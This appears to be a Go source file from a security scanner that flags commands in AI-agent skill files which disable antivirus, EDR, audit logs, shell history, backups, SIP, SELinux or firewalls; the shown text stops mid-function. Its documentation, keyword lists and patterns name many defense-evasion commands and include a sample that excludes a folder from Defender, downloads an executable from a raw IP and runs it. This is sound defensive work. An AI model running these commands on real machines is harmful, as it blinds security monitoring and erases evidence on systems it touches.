package rules

import (
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/match"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/shell"
	"github.com/skillvet/skillvet/skill"
)

// SecurityControlDisable reports commands that switch off or blind a host
// security control: antivirus and EDR, audit and event logging, shell
// history, recovery, SIP, SELinux/AppArmor and the firewall.
var SecurityControlDisable = register(&analyzer.Rule{
	ID:       "SV606",
	Name:     "security-control-disable",
	Title:    "Command switches off or blinds a host security control: antivirus, EDR, audit logging, SIP, SELinux or the firewall",
	Severity: High,
	Category: analyzer.CatPrivEsc,
	Tags:     []string{"security", "defense-evasion", "CWE-693", "CWE-778"},
	Inputs:   shellfacts.Inputs | analyzer.InText | analyzer.InPython,
	Keywords: []string{"mppreference", "windefend", "windows defender", "msmpeng", "advfirewall", "firewall", "executionpolicy",
		"wevtutil", "eventlog", "auditpol", "vssadmin", "shadowcopy", "wbadmin", "bcdedit", "fsutil", "enablelua", "smartscreen",
		"csrutil", "xprotect", "com.apple.mrt", "syspolicyd", "socketfilterfw", "com.apple.alf", "setenforce", "selinux",
		"apparmor", "aa-disable", "aa-teardown", "auditd", "auditctl", "ufw", "iptables", "nft", "falcon", "crowdstrike",
		"sentinel", "mdatp", "wdavdaemon", "clam", "osquery", "wazuh", "ossec", "sysmon", "sense", "sophos", "cylance",
		"cbagent", "syslog", "journald", "histfile", "histsize", "history", "/var/log"},
	Doc: `Finds commands that switch off or blind a security control of the machine the skill runs on
(MITRE ATT&CK T1562 *Impair Defenses*, T1070 *Indicator Removal*, T1490 *Inhibit System
Recovery*), in every place a command can sit: shell, PowerShell and batch files, Markdown code
blocks and spans, ` + "`!command`" + ` lines, hooks, ` + "`powershell -Command \"…\"`" + ` and ` + "`cmd /c \"…\"`" + `
strings, and Python ` + "`subprocess`" + `/` + "`os.system`" + ` command lines.

| control | commands |
|---|---|
| antivirus, EDR | ` + "`Set-MpPreference -DisableRealtimeMonitoring $true`" + ` (and -DisableBehaviorMonitoring, -DisableIOAVProtection, -DisableScriptScanning, -MAPSReporting 0, -SubmitSamplesConsent 2), ` + "`Add-MpPreference -ExclusionPath/-ExclusionProcess/-ExclusionExtension`" + `, ` + "`sc stop/config WinDefend`" + `, ` + "`reg add …\\Windows Defender /v DisableAntiSpyware`" + `, the UAC and SmartScreen switches, ` + "`systemctl stop falcon-sensor`" + ` (mdatp, clamav, SentinelOne, Sophos…), ` + "`launchctl unload …XProtect…`" + `, ` + "`taskkill /im MsMpEng.exe`" + ` |
| audit, logs, history | ` + "`auditctl -e 0`" + `, ` + "`auditctl -D`" + `, ` + "`systemctl stop auditd`" + ` (rsyslog, journald, sysmon), ` + "`wevtutil cl`" + `, ` + "`Clear-EventLog`" + `, ` + "`auditpol /clear`" + `, ` + "`fsutil usn deletejournal`" + `, ` + "`unset HISTFILE`" + `, ` + "`HISTFILE=/dev/null`" + `, ` + "`set +o history`" + `, deleting ` + "`~/.bash_history`" + ` or ` + "`/var/log/auth.log`" + ` |
| recovery | ` + "`vssadmin delete shadows`" + `, ` + "`wmic shadowcopy delete`" + `, ` + "`wbadmin delete catalog`" + `, ` + "`bcdedit /set … recoveryenabled no`" + ` |
| integrity | ` + "`csrutil disable`" + ` (partial ` + "`--with`" + `/` + "`--without`" + `: routine) |
| hardening | ` + "`setenforce 0`" + `, ` + "`SELINUX=disabled`" + ` written to /etc/selinux/config, ` + "`aa-disable`" + `, ` + "`systemctl stop firewalld/ufw/apparmor`" + `, ` + "`ufw disable`" + `, ` + "`netsh advfirewall set allprofiles state off`" + `, ` + "`Set-NetFirewallProfile -Enabled False`" + `, ` + "`iptables -F`" + `, ` + "`iptables -P INPUT ACCEPT`" + `, ` + "`Set-ExecutionPolicy Unrestricted`" + ` machine-wide |

Gatekeeper (` + "`spctl --master-disable`" + `, ` + "`xattr -d com.apple.quarantine`" + `, LSQuarantine) is SV123's; the
same advice in prose (*add an exclusion in Defender*) is SV506's.

Severity follows what the control is and what comes with it:

- antivirus, EDR, audit, logs, history, recovery and SIP switched off, or a Defender exclusion
  for a staging folder (%TEMP%, AppData, Downloads, Public, ProgramData, a drive or profile
  root), an interpreter or LOLBin process (powershell.exe, mshta.exe…) or an executable
  extension: **high**. **Critical** when the same file also fetches a program (a download
  saved as an executable, run after it or piped into an interpreter, from anything but a
  package registry) — the campaign shape: exclude the folder, then run the payload — or when it
  runs at render time (` + "`!command`" + `) or in a hook;
- hardening switched off (SELinux, AppArmor, the firewall, the execution policy, a partial SIP
  change, ` + "`history -c`" + `), or an exclusion for a named project folder or tool
  (` + "`-ExclusionPath \"$PWD\\node_modules\"`" + `, ` + "`-ExclusionProcess node.exe`" + `, which build-speed
  guides recommend): **medium** — server setup guides do exactly this (the Kubernetes install
  guide sets SELinux permissive). **High** at render time or in a hook, or an exclusion in a
  file that fetches a program; **critical** when the file fetches a program from a raw IP, paste
  site, tunnel or file drop, or saves it into the excluded folder.

Not reported: reading the state (` + "`Get-MpPreference`" + `, ` + "`getenforce`" + `, ` + "`csrutil status`" + `,
` + "`ufw status`" + `), switching it back on (` + "`-DisableRealtimeMonitoring $false`" + `, ` + "`setenforce 1`" + `,
` + "`systemctl start auditd`" + `, ` + "`Remove-MpPreference`" + `), ` + "`-Scope Process`" + ` or ` + "`CurrentUser`" + ` execution
policies, and the command as data (` + "`grep -rn \"Set-MpPreference\" scripts/`" + `, a string in an
audit list). Code that the text presents as an attack or a pattern to detect, and lines whose own
comment warns against them, warn (**medium**) instead of blocking; a code span in a sentence
that warns against it is not reported.

**Fix:** leave the machine's protections on. If a tool is flagged, fix the tool (sign it, ship
it through a package manager) or ask the user to review it; never switch the protection off
from a skill.

Bad:

` + "```powershell" + `
Add-MpPreference -ExclusionPath $env:TEMP
Invoke-WebRequest http://203.0.113.7/setup.exe -OutFile $env:TEMP\setup.exe
Start-Process $env:TEMP\setup.exe
` + "```" + `

Good:

` + "```powershell" + `
# Check that real-time protection is on before installing
(Get-MpPreference).DisableRealtimeMonitoring
winget install Acme.Tool
` + "```",
	Run: runSecurityControlDisable,
})

// tcTier is how ordinary switching a control off is.
type tcTier uint8

const (
	// tcStrong: no skill has a reason to (antivirus, EDR, logs, recovery).
	tcStrong tcTier = iota + 1
	// tcRoutine: server setup guides do it (firewall, SELinux, a project
	// folder excluded from scans).
	tcRoutine
)

// tcHit is one control switched off.
type tcHit struct {
	start, end int
	what       string
	tier       tcTier
	excl       []string // excluded folders (normalised), for the payload check
	narrow     bool     // an exclusion for a named project folder or tool
}

// tcFetch is a program the file downloads.
type tcFetch struct {
	host  string
	class intel.HostClass
	out   string // where it is saved (normalised), "" when piped
}

var (
	// tcDownloadCallRx: .NET download calls PowerShell cradles use.
	tcDownloadCallRx = match.MustRx(`(?i)\.Download(?:File|String|Data)(?:Async)?\s*\(\s*['"]?(https?://[^'"\s)]+)['"]?\s*(?:,\s*['"]?([^'")]+))?`)
	// tcExecExtRx: a saved file that is a program.
	tcExecExtRx = match.MustRx(`(?i)\.(?:exe|msi|dll|scr|ps1|psm1|bat|cmd|vbs|vbe|hta|jar|sh|bin|run|pkg|dmg|app|appimage|elf|so|dylib|py|js)$`)
	// tcSELinuxRx: SELinux switched off in its configuration file.
	tcSELinuxRx = match.MustRx(`(?i)\bSELINUX=(disabled|permissive)\b`)
	// tcKernelArgRx: kernel arguments that switch a security module off.
	tcKernelArgRx = match.MustRx(`(?i)(?:^|[\s"'=])(selinux=0|enforcing=0|apparmor=0|security=none)\b`)
	// tcLogFileRx: the logs and histories that record what was done.
	tcLogFileRx = match.MustRx(`(?i)(?:^|/)(?:\.(?:bash|zsh|sh|ash|fish|python)_history|(?:var/log/)(?:auth\.log|secure|audit(?:/.*)?|wtmp|btmp|lastlog|syslog|messages|kern\.log)(?:\.\d+)?)$|^/var/log/\*?$`)
)

func runSecurityControlDisable(p *analyzer.Pass) error {
	if p.File.Kind == skill.KindPython {
		return tcRunPython(p)
	}
	if p.File.Kind == skill.KindText {
		return nil
	}
	sites, err := p.ShellSites()
	if err != nil || len(sites) == 0 {
		return err
	}
	var hits [][]tcHit
	found := false
	for i := range sites {
		h := tcSiteHits(&sites[i])
		hits = append(hits, h)
		found = found || len(h) > 0
	}
	if !found {
		return nil
	}
	fetches := tcFetches(sites)
	for i := range sites {
		site := &sites[i]
		if shellfacts.CatalogueCell(p, site) {
			continue
		}
		for _, h := range hits[i] {
			sev, note := tcGrade(h, site.Kind.Executes(), fetches)
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: h.start, End: h.end, Severity: sev,
				Message: h.what + shellfacts.Where(site) + note})
		}
	}
	return nil
}

// tcGrade grades a hit by its tier, where it runs and the programs the
// file fetches.
func tcGrade(h tcHit, executes bool, fetches []tcFetch) (analyzer.Severity, string) {
	var first, suspicious *tcFetch
	into := ""
	for i := range fetches {
		f := &fetches[i]
		if first == nil {
			first = f
		}
		if suspicious == nil && f.class.Suspicious() {
			suspicious = f
		}
		for _, e := range h.excl {
			if into == "" && f.out != "" && (f.out == e || strings.HasPrefix(f.out, e+`\`)) {
				into = f.out
			}
		}
	}
	fetchNote := func(f *tcFetch) string {
		return "; the same file fetches a program" + shellfacts.DescribeHost(f.class, f.host)
	}
	if into != "" {
		return Critical, "; the same file saves a downloaded program into the excluded folder (" + match.Clip(into, 60) + ")"
	}
	if h.tier == tcStrong {
		switch {
		case first != nil:
			if suspicious != nil {
				first = suspicious
			}
			return Critical, fetchNote(first)
		case executes:
			return Critical, ""
		}
		return High, ""
	}
	switch {
	case suspicious != nil:
		return Critical, fetchNote(suspicious)
	case executes:
		return High, ""
	case h.narrow && first != nil:
		return High, fetchNote(first)
	}
	return Medium, ""
}

// tcSiteHits finds the controls a site's commands switch off.
func tcSiteHits(site *analyzer.ShellSite) []tcHit {
	s := site.Script
	vars := tcPSVars(s)
	var out []tcHit
	seen := map[[2]int]bool{}
	for _, c := range s.Commands {
		tcEach(s, c, 0, func(name string, args []shell.Word, start, end int, cc *shell.Command) {
			if h, ok := tcJudge(s, cc, name, args, vars); ok {
				h.start, h.end = start, end
				if k := [2]int{start, len(h.what)}; !seen[k] {
					seen[k] = true
					out = append(out, h)
				}
			}
		})
	}
	return out
}

// tcBlockWords are the PowerShell and batch keywords a line the parser
// could not read starts with; the commands sit among its words.
var tcBlockWords = map[string]bool{"if": true, "else": true, "elseif": true, "foreach": true, "for": true, "while": true,
	"do": true, "try": true, "catch": true, "finally": true, "switch": true, "function": true, "{": true, "}": true, "(": true}

// tcEach calls fn with c, with the commands among the words of a line
// the parser only split (PowerShell blocks: if (…) { Set-MpPreference … }),
// and with the commands of a powershell -Command or cmd /c string.
func tcEach(s *shell.Script, c *shell.Command, depth int, fn func(name string, args []shell.Word, start, end int, cc *shell.Command)) {
	if len(c.Argv) == 0 {
		if len(c.Assigns) > 0 {
			fn("", nil, c.Start, shellfacts.CmdEnd(c), c)
		}
		return
	}
	fn(c.Name, c.Params(), c.Start, shellfacts.CmdEnd(c), c)
	if c.Heuristic || tcBlockWords[c.Name] {
		var seg []shell.Word
		flush := func() {
			if len(seg) > 0 {
				if n := tcBase(seg[0].Value); tcPrograms[n] {
					fn(n, seg[1:], seg[0].Start, seg[len(seg)-1].End, nil)
				}
			}
			seg = nil
		}
		for _, w := range c.Argv[1:] {
			v := strings.TrimSpace(w.Value)
			if v == "{" || v == "}" || v == ";" || v == "|" || v == "&&" || v == "||" || v == "(" || v == ")" || strings.HasPrefix(v, "(") || strings.HasSuffix(v, "{") {
				flush()
				continue
			}
			if strings.HasPrefix(v, "{") || strings.HasPrefix(v, "}") {
				flush()
				w.Value = strings.TrimLeft(v, "{} ")
				if w.Value == "" {
					continue
				}
			}
			seg = append(seg, w)
		}
		flush()
	}
	if depth > 0 {
		return
	}
	// powershell -Command "…", cmd /c "…": the string is a command line
	var from int
	switch c.Name {
	case "powershell", "pwsh":
		for i, w := range c.Argv[1:] {
			v := strings.ToLower(w.Value)
			if v == "-command" || v == "-c" || v == "-cmd" || v == "/c" || v == "/command" {
				from = i + 2
				break
			}
		}
	case "cmd":
		for i, w := range c.Argv[1:] {
			v := strings.ToLower(w.Value)
			if v == "/c" || v == "/k" || v == "/r" {
				from = i + 2
				break
			}
		}
	}
	if from == 0 || from >= len(c.Argv) {
		return
	}
	ws := c.Argv[from:]
	var parts []string
	for _, w := range ws {
		parts = append(parts, w.Value)
	}
	inner := shell.ParseAnchored(strings.Join(parts, " "), ws[0].Start, ws[len(ws)-1].End)
	for _, ic := range inner.Commands {
		tcEach(inner, ic, depth+1, fn)
	}
}

// tcPrograms are the programs tcJudge knows, for the commands found among
// the words of an unparsed line.
var tcPrograms = map[string]bool{"add-mppreference": true, "set-mppreference": true, "sc": true, "net": true, "net1": true,
	"stop-service": true, "spsv": true, "set-service": true, "reg": true, "new-itemproperty": true, "set-itemproperty": true,
	"sp": true, "netsh": true, "set-netfirewallprofile": true, "set-executionpolicy": true, "wevtutil": true,
	"clear-eventlog": true, "remove-eventlog": true, "auditpol": true, "vssadmin": true, "wmic": true, "wbadmin": true,
	"bcdedit": true, "fsutil": true, "taskkill": true, "stop-process": true, "spps": true}

// tcBase is a program word's name: lower case, without directory or .exe.
func tcBase(v string) string {
	v = strings.Trim(strings.TrimSpace(v), `"'&`)
	if i := strings.LastIndexAny(v, `/\`); i >= 0 && i < len(v)-1 {
		v = v[i+1:]
	}
	return strings.TrimSuffix(strings.ToLower(v), ".exe")
}

// tcPSVars maps the PowerShell variables a site assigns a constant
// ($d = "$env:TEMP\x") to their values.
func tcPSVars(s *shell.Script) map[string]string {
	var m map[string]string
	for _, c := range s.Commands {
		if len(c.Argv) == 3 && c.Argv[1].Value == "=" && strings.HasPrefix(c.Argv[0].Value, "$") {
			if m == nil {
				m = map[string]string{}
			}
			m[strings.ToLower(c.Argv[0].Value)] = c.Argv[2].Value
		}
	}
	return m
}

// tcResolve replaces the PowerShell variables of vars in v.
func tcResolve(v string, vars map[string]string) string {
	if len(vars) == 0 || !strings.Contains(v, "$") {
		return v
	}
	if r, ok := vars[strings.ToLower(v)]; ok {
		return r
	}
	for k, r := range vars {
		if i := strings.Index(strings.ToLower(v), k); i >= 0 {
			j := i + len(k)
			if j == len(v) || !(v[j] == '_' || v[j] >= 'a' && v[j] <= 'z' || v[j] >= 'A' && v[j] <= 'Z' || v[j] >= '0' && v[j] <= '9') {
				v = v[:i] + r + v[j:]
			}
		}
	}
	return v
}

// tcText is a word as a Windows path: its value, or its source text when
// the shell parse took the backslashes of an unquoted C:\x\y as escapes.
func tcText(w shell.Word) string {
	if r := strings.Trim(strings.TrimSpace(w.Raw), `"'`); strings.Contains(r, `\`) && !strings.Contains(w.Value, `\`) && !strings.ContainsAny(r, "$`") {
		return r
	}
	return w.Value
}

// tcLow returns the words' values in lower case.
func tcLow(args []shell.Word) []string {
	out := make([]string, len(args))
	for i, w := range args {
		out[i] = strings.ToLower(strings.TrimSpace(tcText(w)))
	}
	return out
}

// tcPositional returns the words that are not options (nor an option's
// value, for the options in valued).
func tcPositional(low []string, valued map[string]bool) []string {
	var out []string
	for i := 0; i < len(low); i++ {
		v := low[i]
		if strings.HasPrefix(v, "-") {
			if valued[v] {
				i++
			}
			continue
		}
		out = append(out, strings.Fields(v)...)
	}
	return out
}

// tcOpt returns the value of a PowerShell parameter (-Name value or
// -Name:value), matched by its lower-case name.
func tcOpt(low []string, name string) (string, bool) {
	for i, v := range low {
		if v == "-"+name {
			if i+1 < len(low) {
				return low[i+1], true
			}
			return "", true
		}
		if strings.HasPrefix(v, "-"+name+":") {
			return v[len(name)+2:], true
		}
	}
	return "", false
}

func tcTruthy(v string) bool { return v == "$true" || v == "true" || v == "1" || v == "" }

func tcHas(low []string, vs ...string) bool {
	for _, a := range low {
		for _, v := range vs {
			if a == v {
				return true
			}
		}
	}
	return false
}

// tcJudge says whether the command name args (c when it is a parsed
// command, for its pipes and redirections) switches a control off.
func tcJudge(s *shell.Script, c *shell.Command, name string, args []shell.Word, vars map[string]string) (tcHit, bool) {
	low := tcLow(args)
	strong := func(what string) (tcHit, bool) { return tcHit{what: what, tier: tcStrong}, true }
	routine := func(what string) (tcHit, bool) { return tcHit{what: what, tier: tcRoutine}, true }
	switch name {
	case "":
		for _, a := range c.Assigns {
			if h, ok := tcHistoryVar(a.Raw); ok {
				return h, true
			}
		}
	case "add-mppreference", "set-mppreference":
		return tcDefenderPreference(name, args, low, vars)
	case "sc":
		if len(low) >= 2 {
			if verb := low[0]; verb == "stop" || verb == "delete" || verb == "config" && (tcHas(low, "disabled") || tcHas(low, "start=disabled")) {
				if label, tier, ok := tcService(low[1]); ok {
					return tcHit{what: "sc " + verb + " " + tcOrig(args, low[1]) + " stops " + label, tier: tier}, true
				}
			}
		}
	case "net", "net1":
		if len(low) >= 2 && low[0] == "stop" {
			if label, tier, ok := tcService(strings.Join(low[1:], " ")); ok {
				return tcHit{what: "net stop " + tcOrig(args, low[1]) + " stops " + label, tier: tier}, true
			}
		}
	case "stop-service", "spsv", "set-service", "suspend-service":
		if name == "set-service" {
			st, _ := tcOpt(low, "startuptype")
			status, _ := tcOpt(low, "status")
			if st != "disabled" && status != "stopped" {
				break
			}
		}
		names := tcPositional(low, map[string]bool{"-startuptype": true, "-status": true, "-computername": true, "-description": true})
		if v, ok := tcOpt(low, "name"); ok {
			names = append(names, strings.Split(v, ",")...)
		}
		if v, ok := tcOpt(low, "displayname"); ok {
			names = append(names, v)
		}
		for _, n := range names {
			if label, tier, ok := tcService(n); ok {
				return tcHit{what: name + " " + tcOrig(args, n) + " stops " + label, tier: tier}, true
			}
		}
	case "systemctl":
		pos := tcPositional(low, map[string]bool{"-h": true, "--host": true, "-m": true, "--machine": true, "--signal": true, "-s": true})
		if len(pos) >= 2 && (pos[0] == "stop" || pos[0] == "disable" || pos[0] == "mask" || pos[0] == "kill") {
			for _, u := range pos[1:] {
				if label, tier, ok := tcService(u); ok {
					return tcHit{what: "systemctl " + pos[0] + " " + u + " stops " + label, tier: tier}, true
				}
			}
		}
	case "service":
		if len(low) >= 2 && low[1] == "stop" {
			if label, tier, ok := tcService(low[0]); ok {
				return tcHit{what: "service " + low[0] + " stop stops " + label, tier: tier}, true
			}
		}
	case "chkconfig", "update-rc.d", "rc-update":
		if len(low) >= 2 && (low[1] == "off" || low[1] == "disable" || low[1] == "remove" || low[0] == "del") {
			n := low[0]
			if low[0] == "del" {
				n = low[1]
			}
			if label, tier, ok := tcService(n); ok {
				return tcHit{what: name + " " + n + " " + low[1] + " stops " + label, tier: tier}, true
			}
		}
	case "launchctl":
		if len(low) >= 2 && (low[0] == "unload" || low[0] == "bootout" || low[0] == "disable" || low[0] == "remove" || low[0] == "stop") {
			for _, t := range low[1:] {
				if label, tier, ok := tcService(t); ok {
					return tcHit{what: "launchctl " + low[0] + " " + match.Clip(tcOrig(args, t), 60) + " stops " + label, tier: tier}, true
				}
			}
		}
	case "taskkill", "pkill", "killall", "stop-process", "spps":
		for i, t := range low {
			if strings.HasPrefix(t, "-") || strings.HasPrefix(t, "/") {
				continue
			}
			if i > 0 && (low[i-1] == "-u" || low[i-1] == "-signal" || low[i-1] == "-s" || low[i-1] == "/pid" || low[i-1] == "-id") {
				continue
			}
			if label, tier, ok := tcService(t); ok && tier == tcStrong {
				return tcHit{what: name + " " + tcOrig(args, t) + " stops " + label, tier: tier}, true
			}
		}
	case "reg", "new-itemproperty", "set-itemproperty", "sp":
		return tcRegistry(name, args, low, vars)
	case "netsh":
		j := " " + strings.Join(low, " ") + " "
		if strings.Contains(j, " advfirewall set ") && strings.Contains(j, " state off ") || strings.Contains(j, " firewall set opmode ") && (strings.Contains(j, " disable ") || strings.Contains(j, " mode=disable ")) {
			return routine("netsh switches Windows Firewall off")
		}
	case "set-netfirewallprofile":
		if v, ok := tcOpt(low, "enabled"); ok && (v == "false" || v == "$false" || v == "0") {
			return routine("Set-NetFirewallProfile switches Windows Firewall off")
		}
	case "set-executionpolicy":
		pol, ok := tcOpt(low, "executionpolicy")
		if !ok {
			if pos := tcPositional(low, map[string]bool{"-scope": true}); len(pos) > 0 {
				pol = pos[0]
			}
		}
		scope, _ := tcOpt(low, "scope")
		if (pol == "unrestricted" || pol == "bypass") && (scope == "" || scope == "localmachine") {
			return routine("Set-ExecutionPolicy " + pol + " lets every PowerShell script on the machine run unsigned")
		}
	case "wevtutil":
		if len(low) >= 2 && (low[0] == "cl" || low[0] == "clear-log") {
			return strong("wevtutil clears the " + tcOrig(args, low[1]) + " event log")
		}
		if len(low) >= 2 && (low[0] == "sl" || low[0] == "set-log") && (tcHas(low, "/e:false") || tcHas(low, "/enabled:false")) {
			return strong("wevtutil switches the " + tcOrig(args, low[1]) + " event log off")
		}
	case "clear-eventlog", "remove-eventlog":
		return strong(name + " erases Windows event logs")
	case "auditpol":
		if tcHas(low, "/clear", "/remove") {
			return strong("auditpol removes the Windows audit policy")
		}
	case "vssadmin":
		if len(low) >= 2 && (low[0] == "delete" && low[1] == "shadows" || low[0] == "resize" && low[1] == "shadowstorage") {
			return strong("vssadmin " + low[0] + " " + low[1] + " destroys the volume shadow copies (the machine's restore points)")
		}
	case "wmic":
		if j := strings.Join(low, " "); strings.Contains(j, "shadowcopy delete") {
			return strong("wmic shadowcopy delete destroys the volume shadow copies")
		}
	case "wbadmin":
		if len(low) >= 2 && low[0] == "delete" && (low[1] == "catalog" || low[1] == "systemstatebackup" || low[1] == "backup") {
			return strong("wbadmin delete " + low[1] + " destroys the backups")
		}
	case "bcdedit":
		j := " " + strings.Join(low, " ") + " "
		if strings.Contains(j, " recoveryenabled no ") || strings.Contains(j, " bootstatuspolicy ignoreallfailures ") {
			return strong("bcdedit switches Windows recovery off")
		}
	case "fsutil":
		if len(low) >= 2 && low[0] == "usn" && low[1] == "deletejournal" {
			return strong("fsutil deletes the NTFS change journal")
		}
	case "csrutil":
		if len(low) >= 1 {
			partial := tcHas(low, "--with", "--without")
			switch {
			case low[0] == "disable" && !partial, len(low) >= 2 && low[0] == "authenticated-root" && low[1] == "disable":
				return strong("csrutil switches System Integrity Protection off")
			case low[0] == "disable" || low[0] == "enable" && tcHas(low, "--without"):
				return routine("csrutil switches parts of System Integrity Protection off")
			}
		}
	case "socketfilterfw":
		if v, ok := tcOpt(low, "-setglobalstate"); ok && v == "off" {
			return routine("socketfilterfw switches the macOS application firewall off")
		}
	case "defaults":
		j := strings.Join(low, " ")
		if strings.Contains(j, "com.apple.alf") && strings.Contains(j, "globalstate") && strings.HasSuffix(j, " 0") {
			return routine("defaults write switches the macOS application firewall off")
		}
	case "setenforce":
		if len(low) >= 1 && (low[0] == "0" || low[0] == "permissive") {
			return routine("setenforce " + low[0] + " stops SELinux enforcing")
		}
	case "sed", "echo", "printf", "tee":
		if h, ok := tcSELinuxConfig(s, c, name, low); ok {
			return h, true
		}
	case "grubby", "grub2-editenv", "kernelstub":
		for _, v := range low {
			if m := tcKernelArgRx.FindStringSubmatch(v); m != nil && !strings.HasPrefix(v, "--remove-args") {
				return routine(name + " boots the kernel with " + m[1])
			}
		}
	case "aa-disable", "aa-teardown":
		return routine(name + " switches AppArmor profiles off")
	case "ufw":
		if len(low) >= 1 && low[0] == "disable" {
			return routine("ufw disable switches the firewall off")
		}
	case "iptables", "ip6tables":
		if tcRebuildsFirewall(s, c) {
			break // a firewall script starts from a clean table
		}
		for i, v := range low {
			if v == "-f" && args[i].Value == "-F" || v == "--flush" {
				return routine(name + " " + args[i].Value + " deletes every firewall rule")
			}
			if (v == "-p" && args[i].Value == "-P" || v == "--policy") && i+2 < len(low) && (low[i+1] == "input" || low[i+1] == "forward") && low[i+2] == "accept" {
				return routine(name + " -P " + args[i+1].Value + " ACCEPT lets every packet in")
			}
		}
	case "nft":
		if len(low) >= 2 && !tcRebuildsFirewall(s, c) && low[0] == "flush" && low[1] == "ruleset" {
			return routine("nft flush ruleset deletes every firewall rule")
		}
	case "auditctl":
		for i, v := range low {
			if v == "-e" && i+1 < len(low) && low[i+1] == "0" {
				return strong("auditctl -e 0 switches kernel auditing off")
			}
			if v == "-d" && args[i].Value == "-D" {
				return strong("auditctl -D deletes every audit rule")
			}
		}
	case "unset":
		for _, v := range low {
			if v == "histfile" {
				return strong("unset HISTFILE stops the shell recording its history")
			}
		}
	case "export", "declare", "typeset", "set":
		if name == "set" && len(low) >= 2 && low[0] == "+o" && low[1] == "history" {
			return strong("set +o history stops the shell recording its history")
		}
		for _, a := range args {
			if h, ok := tcHistoryVar(a.Value); ok {
				return h, true
			}
		}
	case "history":
		if tcHas(low, "-c") {
			return routine("history -c erases the shell history")
		}
	case "rm", "shred", "truncate", "unlink", "remove-item", "ri", "del", "erase":
		for _, v := range low {
			if !strings.HasPrefix(v, "-") && tcLogFileRx.MatchString(shellfacts.NormPath(v)) {
				return strong(name + " " + v + " erases the record of what was done")
			}
		}
	}
	if c != nil && name != "" {
		// > ~/.bash_history, cat /dev/null > /var/log/wtmp
		for _, r := range c.Redirs {
			if (r.Op == ">" || r.Op == ">|") && tcLogFileRx.MatchString(shellfacts.NormPath(r.Target.Value)) && (name == "cat" || name == "echo" || name == "printf" || name == ":" || name == "true") {
				return strong("overwrites " + r.Target.Value + ", erasing the record of what was done")
			}
		}
	}
	return tcHit{}, false
}

// tcRebuildsFirewall reports a firewall flush that a script follows with
// its own rules (iptables -A/-I, a DROP or REJECT policy, nft add/-f): a
// firewall configuration script rebuilding the table, not switching the
// firewall off.
func tcRebuildsFirewall(s *shell.Script, c *shell.Command) bool {
	if s == nil || c == nil {
		return false
	}
	after := false
	for _, x := range s.Commands {
		if x == c {
			after = true
			continue
		}
		if !after || x.Name != c.Name {
			continue
		}
		xl := tcLow(x.Params())
		if tcHas(xl, "-a", "-i", "--append", "--insert", "add", "-f") || tcHas(xl, "drop", "reject") && tcHas(xl, "-p", "--policy", "policy") {
			return true
		}
	}
	return false
}

// tcHistoryVar judges a NAME=value word that stops the shell history.
func tcHistoryVar(v string) (tcHit, bool) {
	k, val, ok := strings.Cut(v, "=")
	if !ok {
		return tcHit{}, false
	}
	k = strings.ToUpper(strings.TrimSpace(k))
	val = strings.Trim(strings.TrimSpace(val), `"'`)
	if k == "HISTFILE" && (val == "/dev/null" || val == "") || (k == "HISTSIZE" || k == "HISTFILESIZE" || k == "SAVEHIST") && val == "0" {
		return tcHit{what: k + "=" + val + " stops the shell recording its history", tier: tcStrong}, true
	}
	return tcHit{}, false
}

// tcSELinuxConfig finds SELINUX=disabled|permissive written to the
// SELinux configuration file (sed -i, echo > file, echo | tee file).
func tcSELinuxConfig(s *shell.Script, c *shell.Command, name string, low []string) (tcHit, bool) {
	if c == nil {
		return tcHit{}, false
	}
	isConf := func(v string) bool { return v == "/etc/selinux/config" || v == "/etc/sysconfig/selinux" }
	mode := ""
	for _, v := range low {
		if m := tcSELinuxRx.FindStringSubmatch(v); m != nil {
			mode = strings.ToLower(m[1])
		}
	}
	if mode == "" {
		return tcHit{}, false
	}
	target := false
	switch name {
	case "sed", "tee":
		target = tcHas(low, "/etc/selinux/config", "/etc/sysconfig/selinux")
	case "echo", "printf":
		for _, r := range c.Redirs {
			target = target || isConf(r.Target.Value)
		}
		if c.PipeNext >= 0 && c.PipeNext < len(s.Commands) {
			k := s.Commands[c.PipeNext]
			target = target || tcHas(tcLow(k.Params()), "/etc/selinux/config", "/etc/sysconfig/selinux")
		}
	}
	if !target {
		return tcHit{}, false
	}
	return tcHit{what: "writes SELINUX=" + mode + " to the SELinux configuration", tier: tcRoutine}, true
}

// tcDefenderPreference judges Add-MpPreference and Set-MpPreference.
func tcDefenderPreference(name string, args []shell.Word, low []string, vars map[string]string) (tcHit, bool) {
	cmd := "Add-MpPreference"
	if name == "set-mppreference" {
		cmd = "Set-MpPreference"
	}
	var hit tcHit
	found := false
	set := func(h tcHit) {
		// the strongest switch of the command names the finding
		if !found || h.tier < hit.tier || h.tier == hit.tier && !h.narrow && hit.narrow {
			hit, found = h, true
		}
	}
	for i := 0; i < len(low); i++ {
		k := low[i]
		if !strings.HasPrefix(k, "-") {
			continue
		}
		param, val, colon := strings.Cut(k[1:], ":")
		var vals []shell.Word
		if !colon {
			for j := i + 1; j < len(low) && !(strings.HasPrefix(low[j], "-") && len(low[j]) > 1 && low[j][1] >= 'a' && low[j][1] <= 'z'); j++ {
				vals = append(vals, args[j])
			}
			if len(vals) > 0 {
				val = strings.ToLower(vals[0].Value)
			}
		}
		switch {
		case strings.HasPrefix(param, "exclusion"):
			kind := strings.TrimPrefix(param, "exclusion")
			var targets []string
			for _, w := range vals {
				for _, t := range strings.Split(tcResolve(tcText(w), vars), ",") {
					t = strings.Trim(strings.TrimSpace(t), `"'@() `)
					if t != "" {
						targets = append(targets, t)
					}
				}
			}
			if colon {
				targets = append(targets, strings.Trim(val, `"'`))
			}
			if len(targets) == 0 {
				continue
			}
			h := tcHit{tier: tcRoutine, narrow: true}
			for _, t := range targets {
				if tcBroadExclusion(kind, t) {
					h.tier, h.narrow = tcStrong, false
				}
				if kind == "path" {
					h.excl = append(h.excl, tcNormWinPath(t))
				}
			}
			what := "excludes " + match.Clip(strings.Join(targets, ", "), 60) + " from Microsoft Defender scans (" + cmd + " " + strings.SplitN(args[i].Value, ":", 2)[0] + ")"
			if h.narrow {
				what += "; a named project folder or tool"
			}
			h.what = what
			set(h)
		case strings.HasPrefix(param, "disable") && tcTruthy(strings.Trim(val, `"'`)):
			switch param {
			case "disablerealtimemonitoring", "disablebehaviormonitoring", "disableioavprotection", "disablescriptscanning",
				"disableintrusionpreventionsystem", "disableblockatfirstseen", "disableonaccessprotection", "disabletamperprotection":
